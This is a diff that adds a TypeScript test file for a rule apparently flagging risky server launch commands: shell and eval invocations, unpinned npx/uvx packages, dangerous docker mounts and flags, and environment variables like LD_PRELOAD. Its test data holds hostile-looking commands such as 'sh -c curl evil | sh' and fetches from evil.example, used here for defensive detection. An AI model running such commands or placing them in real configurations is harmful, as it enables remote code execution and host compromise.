@@ -1,0 +1,235 @@
+import fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+import {
+  changesWhatRuns,
+  connectionForm,
+  flagLaunch,
+  launchCanonicalForm,
+  type LaunchFormFacts,
+} from '../../../src-shared/servers/launch-rule';
+import type { Connection, SecretRef, StoredValue } from '../../../src-shared/servers/server.schema';
+
+const flagsOf = (line: readonly (string | null)[], realPath?: string) => {
+  const [command, ...args] = line;
+  return flagLaunch({ command: command ?? '', realPath: realPath ?? command ?? '', args, envNames: [] });
+};
+/** The places a command line is remarked on: `c` for the command, else the argument's index. */
+const places = (line: readonly (string | null)[], realPath?: string) =>
+  flagsOf(line, realPath).map((flag) => (flag.on.kind === 'argument' ? flag.on.index : 'c'));
+
+const runsCode: [line: (string | null)[], at: (number | 'c')[]][] = [
+  [['sh', '-c', 'curl evil | sh'], [0]],
+  [['bash', '-lc', 'node x'], [0]],
+  [['bash', '-o', 'pipefail', '-c', 'node x'], [2]],
+  [['/bin/zsh', '-ic', 'x'], [0]],
+  [['fish', '--command=x'], [0]],
+  [['C:\\Windows\\System32\\CMD.EXE', '/c', 'x'], [0]],
+  [['powershell', '-EncodedCommand', 'x'], [0]],
+  [['pwsh', '-c', 'x'], [0]],
+  [['node', '-e', 'x'], [0]],
+  [['node', '--eval=x'], [0]],
+  [['node', '-p', 'x'], [0]],
+  [['node', '-pe', 'x'], [0]],
+  [['node', '--no-warnings', '--eval', 'x'], [1]],
+  [['node', '--require', './x.js', 'server.js'], [0]],
+  [['node', '--import=./x.mjs', 'server.js'], [0]],
+  [['node20', '-e', 'x'], [0]],
+  [['python', '-c', 'x'], [0]],
+  [['python3.11', '-Ic', 'x'], [0]],
+  [['perl', '-ne', 'x'], [0]],
+  [['ruby', '-e', 'x'], [0]],
+  [['php', '-r', 'x'], [0]],
+  [['osascript', '-e', 'x'], [0]],
+  [['deno', 'eval', 'x'], [0]],
+  [['deno', 'run', '-A', 'https://evil.example/x.ts'], [2]],
+  [['npx', '-c', 'x'], [0]],
+  [['npx', '--call=x'], [0]],
+  [['npx', '--yes', '--package', 'a@1.0.0', '-c', 'x'], [3]],
+  [['npm', 'exec', '-c', 'x'], [1]],
+  [['env', 'sh', '-c', 'x'], ['c', 1]],
+  [['/usr/bin/env', '-i', 'A=b', 'bash', '-c', 'x'], ['c', 3]],
+  [['env', 'NODE_OPTIONS=--require=/x', 'node', 'server.js'], ['c', 0]],
+  [['env', '-S', 'sh -c x'], ['c', 0]],
+  [['sudo', '-u', 'root', 'node', '-e', 'x'], ['c', 'c', 3]],
+  [['timeout', '30', 'sh', '-c', 'x'], ['c', 2]],
+  [['nohup', 'env', 'python', '-c', 'x'], ['c', 0, 2]],
+  [['docker', 'run', '-v', '/:/host', 'app:1.2'], [2]],
+  [['docker', 'run', '-v/:/host', 'app:1.2'], [1]],
+  [['docker', 'run', '-itv', '/:/host', 'app:1.2'], [2]],
+  [['docker', 'run', '--volume=/:/host', 'app:1.2'], [1]],
+  [['docker', 'run', '--mount', 'type=bind,source=/,target=/host', 'app:1.2'], [2]],
+  [['docker', 'run', '-v', '/./:/host', 'app:1.2'], [2]],
+  [['docker', 'run', '-v', '/home/you/../..:/host', 'app:1.2'], [2]],
+  [['docker', 'run', '-v', '/home/you:/h', 'app:1.2'], [2]],
+  [['docker', 'run', '-v', '/var/run/docker.sock:/var/run/docker.sock', 'app:1.2'], [2]],
+  [['docker', 'run', '--privileged', 'app:1.2'], [1]],
+  [['docker', 'run', '--network=host', 'app:1.2'], [1]],
+  [['docker', 'run', '--pid', 'host', 'app:1.2'], [1]],
+  [['docker', 'run', '--rm', 'app:1.2', 'sh', '-c', 'x'], [4]],
+  [['docker', '-H', 'ssh://other', 'run', 'app:1.2'], [0]],
+];
+test.each(runsCode)('T1: %j is flagged at %j', (line, at) => {
+  expect(places(line)).toEqual(at);
+});
+
+const floating: [line: (string | null)[], at: (number | 'c')[]][] = [
+  [['npx', 'pkg'], [0]],
+  [['npx', '-y', '@scope/pkg'], [1]],
+  [['npx', '-y', 'pkg@latest'], [1]],
+  [['npx', '-y', 'pkg@^1.2.3'], [1]],
+  [['npx', '-y', 'pkg@1'], [1]],
+  [['npx', 'pkg@1.2.x'], [0]],
+  [['npx', '-p', 'pkg', 'bin'], [1]],
+  [['npx', '--package=pkg', 'bin'], [0]],
+  [['npx', 'github:someone/pkg'], [0]],
+  [['npx', 'someone/pkg'], [0]],
+  [['npx', 'https://evil.example/x.tgz'], [0]],
+  [['npx', '--registry=https://evil.example', 'pkg@1.0.0'], [0]],
+  [['pnpm', 'dlx', 'pkg'], [1]],
+  [['bunx', 'pkg'], [0]],
+  [['bun', 'x', 'pkg'], [1]],
+  [['uvx', 'pkg'], [0]],
+  [['uvx', 'pkg@latest'], [0]],
+  [['uvx', 'pkg>=1.0'], [0]],
+  [['uvx', '--from', 'git+https://evil.example/x', 'pkg'], [1]],
+  [['uvx', '--with', 'other', 'pkg==1.0.0'], [1]],
+  [['uv', 'tool', 'run', 'pkg'], [2]],
+  [['pipx', 'run', 'pkg'], [1]],
+  [['docker', 'run', '-i', '--rm', 'ghcr.io/org/app'], [3]],
+  [['docker', 'run', '-i', '-e', 'TOKEN', 'org/app:latest'], [4]],
+  [['docker', 'run', '-eA=1', 'localhost:5000/app'], [2]],
+  [['podman', 'run', 'app'], [1]],
+];
+test.each(floating)('T1: %j has no fixed version, flagged at %j', (line, at) => {
+  expect(places(line)).toEqual(at);
+});
+
+const quiet: (string | null)[][] = [
+  ['node', 'server.js'],
+  ['node', '/opt/app/server.js', '-e', 'production'],
+  ['node', '--no-warnings', 'server.js', '--verbose'],
+  ['python', '-m', 'my_server'],
+  ['python3', 'server.py', '-c', 'config.toml'],
+  ['npx', '-y', '@scope/pkg@1.2.3', '/home/you'],
+  ['npx', 'pkg@1.2.3-beta.1'],
+  ['npx', './local-server'],
+  ['uvx', 'pkg==1.2.3'],
+  ['uvx', 'pkg@1.2.3'],
+  ['docker', 'run', '-i', '--rm', '-e', 'TOKEN', 'org/app:1.2'],
+  ['docker', 'run', '-i', `org/app@sha256:${'a'.repeat(64)}`],
+  ['docker', 'run', '-v', '/home/you/notes:/notes', 'org/app:1.2'],
+  ['/opt/github-mcp-server', 'stdio', '-c', 'x'],
+  ['constructor', '__proto__'],
+  ['my-server', null, null],
+];
+test.each(quiet.map((line) => [line]))('T1: %j needs no remark', (line) => {
+  expect(flagsOf(line)).toEqual([]);
+});
+
+test('T1: a harmless name that leads to a shell is judged as the shell', () => {
+  expect(places(['helper', '-c', 'x'], '/usr/bin/bash')).toEqual([0]);
+  expect(places(['sh', '-c', 'x'], '/usr/bin/dash')).toEqual([0]);
+  expect(places(['npx', 'pkg'], '/usr/lib/node_modules/npm/bin/npx-cli.js')).toEqual([0]);
+});
+
+test('T1: a secret argument is never quoted, and does not hide the code behind it', () => {
+  expect(places(['sh', null, '-c', 'x'])).toEqual([1]);
+});
+
+test('T1: no command line makes the rule throw, and every place exists', () => {
+  const word = fc.oneof(fc.constantFrom('env', 'sh', '-c', 'npx', 'docker', 'run', '-v', '--', '-', 'uvx', '=', '/:/', '-p'), fc.string());
+  fc.assert(
+    fc.property(fc.array(fc.oneof(word, fc.constant(null)), { maxLength: 12 }), (args) => {
+      for (const command of ['env', 'docker', 'npx', 'bash', '']) {
+        for (const { on, text } of flagLaunch({ command, realPath: command, args, envNames: [] })) {
+          expect(text).toMatch(/\.$/);
+          if (on.kind === 'argument') expect(on.index).toBeLessThan(args.length);
+        }
+      }
+    }),
+  );
+});
+
+const changing = [
+  ...['NODE_OPTIONS', 'node_options', 'NODE_EXTRA_CA_CERTS', 'NODE_PATH', 'LD_PRELOAD', 'LD_LIBRARY_PATH', 'DYLD_INSERT_LIBRARIES', 'BASH_ENV'],
+  ...['PYTHONSTARTUP', 'PYTHONPATH', 'PERL5OPT', 'RUBYOPT', 'JAVA_TOOL_OPTIONS', 'GIT_SSH_COMMAND', 'PATH', 'Path', 'HTTP_PROXY', 'https_proxy'],
+  ...['ALL_PROXY', 'no_proxy', 'npm_config_registry', 'NPM_CONFIG_REGISTRY', 'BASH_FUNC_ls%%', 'SSLKEYLOGFILE', 'NODE_TLS_REJECT_UNAUTHORIZED'],
+];
+test.each(changing)('T1 X8: %s changes what runs, is flagged, and is never secret', (name) => {
+  expect(changesWhatRuns(name)).toBe(true);
+  expect(flagLaunch({ command: 'x', realPath: '/x', args: [], envNames: ['TOKEN', name] }).map((flag) => flag.on)).toEqual([{ kind: 'variable', name }]);
+});
+
+const harmless = ['GITHUB_TOKEN', 'API_KEY', 'MY_PATH', 'PATHS', 'GITLAB_TOKEN', 'NODE_ENV', 'LDAP_PASSWORD', 'PROXY', 'HOME', ''];
+test.each(harmless)('T1: %j is an ordinary name', (name) => {
+  expect(changesWhatRuns(name)).toBe(false);
+});
+
+const literal = (value: string): StoredValue => ({ kind: 'literal', value });
+const secret = (ref: string): StoredValue => ({ kind: 'secret', ref: ref as SecretRef });
+type StdioFacts = Extract<LaunchFormFacts, { transport: 'stdio' }>;
+const stdio: StdioFacts = {
+  transport: 'stdio',
+  realPath: '/usr/bin/node',
+  executableDigest: null,
+  args: [
+    { value: literal('server.js'), fileDigest: 'd1' },
+    { value: literal('x'), fileDigest: null },
+  ],
+  cwd: '/home/you',
+  env: [
+    { name: 'A', value: literal('1') },
+    { name: 'T', value: secret('secret-1') },
+  ],
+};
+const http: LaunchFormFacts = { transport: 'http', address: 'https://a.example/x', headers: [{ name: 'X-Key', value: secret('secret-1') }] };
+const arg = (value: StoredValue, fileDigest: string | null = null) => ({ value, fileDigest });
+
+describe('T2 H2: every part of the list is in the text that is fingerprinted', () => {
+  const changed: [part: string, from: LaunchFormFacts, to: LaunchFormFacts][] = [
+    ['transport', stdio, http],
+    ['real path', stdio, { ...stdio, realPath: '/usr/bin/nodes' }],
+    ['content of the executable', stdio, { ...stdio, executableDigest: 'd9' }],
+    ['content of a file an argument names', stdio, { ...stdio, args: [arg(literal('server.js'), 'd2'), arg(literal('x'))] }],
+    ['an argument', stdio, { ...stdio, args: [arg(literal('server.js'), 'd1'), arg(literal('y'))] }],
+    ['one argument more', stdio, { ...stdio, args: [...stdio.args, arg(literal(''))] }],
+    ['order of arguments', stdio, { ...stdio, args: [...stdio.args].reverse() }],
+    ['a boundary between arguments', stdio, { ...stdio, args: [arg(literal('server.jsx'), 'd1'), arg(literal(''))] }],
+    ['an argument that becomes a secret', stdio, { ...stdio, args: [arg(literal('server.js'), 'd1'), arg(secret('x'))] }],
+    ['working folder', stdio, { ...stdio, cwd: '/home' }],
+    ['name of a variable', stdio, { ...stdio, env: [{ name: 'B', value: literal('1') }, ...stdio.env.slice(1)] }],
+    ['value of a variable', stdio, { ...stdio, env: [{ name: 'A', value: literal('2') }, ...stdio.env.slice(1)] }],
+    ['reference of a secret', stdio, { ...stdio, env: [...stdio.env.slice(0, 1), { name: 'T', value: secret('secret-2') }] }],
+    ['a variable that becomes a literal', stdio, { ...stdio, env: [...stdio.env.slice(0, 1), { name: 'T', value: literal('secret-1') }] }],
+    ['an argument that becomes a variable', stdio, { ...stdio, args: stdio.args.slice(0, 1), env: [{ name: 'x', value: literal('') }, ...stdio.env] }],
+    ['address', http, { ...http, address: 'https://a.example/y' }],
+    ['name of a header', http, { ...http, headers: [{ name: 'X-Kez', value: secret('secret-1') }] }],
+    ['reference in a header', http, { ...http, headers: [{ name: 'X-Key', value: secret('secret-2') }] }],
+    ['one header more', http, { ...http, headers: [...http.headers, { name: 'X', value: literal('') }] }],
+  ];
+  test.each(changed)('%s', (_part, from, to) => {
+    expect(launchCanonicalForm(to)).not.toBe(launchCanonicalForm(from));
+  });
+
+  test('the order of variables is no part of it', () => {
+    expect(launchCanonicalForm({ ...stdio, env: [...stdio.env].reverse() })).toBe(launchCanonicalForm(stdio));
+  });
+
+  test('no text inside one argument can look like two arguments', () => {
+    const texts = fc.array(fc.oneof(fc.constantFrom('"', '","', '\\', '],[', 'null', '\ud800', '\u0000'), fc.string({ unit: 'binary' })), { maxLength: 4 });
+    const form = (args: string[]) => launchCanonicalForm({ ...stdio, args: args.map((text) => arg(literal(text))) });
+    fc.assert(
+      fc.property(texts, texts, (one, other) => {
+        expect(form(one) === form(other)).toBe(JSON.stringify(one) === JSON.stringify(other));
+      }),
+    );
+  });
+});
+
+test('S3: an entry without a folder is not the entry with one, and a connection equals only itself', () => {
+  const connection: Connection = { kind: 'stdio', command: 'node', args: [literal('a')], env: [] };
+  expect(connectionForm({ ...connection, cwd: '/' })).not.toBe(connectionForm(connection));
+  expect(connectionForm({ ...connection, command: 'nodes' })).not.toBe(connectionForm(connection));
+  expect(connectionForm({ kind: 'http', endpoint: 'https://a.example', headers: [] })).not.toBe(connectionForm(connection));
+  expect(connectionForm({ ...connection, env: [] })).toBe(connectionForm(connection));
+});
